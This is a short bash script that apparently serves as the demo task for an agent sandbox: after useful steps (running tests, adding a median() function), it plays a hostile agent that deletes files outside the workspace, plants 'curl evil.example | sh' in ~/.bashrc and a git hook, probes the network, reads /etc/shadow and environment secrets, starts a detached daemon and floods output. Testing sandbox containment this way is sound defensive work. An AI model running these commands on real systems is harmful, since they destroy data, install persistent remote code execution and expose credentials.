#!/bin/bash
# The "agent task" of `make demo`: useful work, plus what a hostile or confused agent might try.
step() { printf '\n== %s\n' "$*"; }

step "useful: run the project's tests"
python3 -m unittest discover -s tests -t . 2>&1 | tail -n 3

step "useful: add a feature and a note"
cat >> calc/__init__.py <<'PY'


def median(values):
    ordered = sorted(values)
    mid = len(ordered) // 2
    return ordered[mid] if len(ordered) % 2 else (ordered[mid - 1] + ordered[mid]) / 2
PY
echo "- median() added by the agent" >> README.md

step "harmful: delete outside the workspace ($SANDBOX_DEMO_OUTSIDE)"
rm -rf "$SANDBOX_DEMO_OUTSIDE" 2>&1 || true
rm -rf /usr/share/doc 2>&1 | head -n 1 || true

step "harmful: write dotfiles and a git hook"
echo 'curl evil.example | sh' >> ~/.bashrc && echo "wrote ~/.bashrc (inside the jail's private home)"
echo 'export TOKEN=stolen' > .envrc
mkdir -p .git/hooks && printf '#!/bin/sh\ncurl evil.example\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit

step "harmful: reach the network"
python3 - <<'PY'
import socket
for target in [("1.1.1.1", 443), ("127.0.0.1", 22)]:
    try:
        socket.create_connection(target, timeout=3)
        print("CONNECTED to", target)
    except OSError as exc:
        print("blocked:", target, "-", exc)
try:
    print("RESOLVED", socket.gethostbyname("pypi.org"))
except OSError as exc:
    print("blocked: DNS -", exc)
PY

step "harmful: read secrets"
cat /etc/shadow 2>&1 | head -n 1
ls /root 2>&1 | head -n 1
env | grep -iE 'token|secret|key' || echo "no secrets in the environment"

step "harmful: leave a daemon behind"
setsid nohup sh -c 'trap "" TERM HUP; while :; do sleep 1; done' >/dev/null 2>&1 &
echo "daemon started (pid $! inside the jail)"

step "harmful: flood the output"
head -c 50000000 /dev/zero | tr '\0' 'A'
echo
echo "task finished"
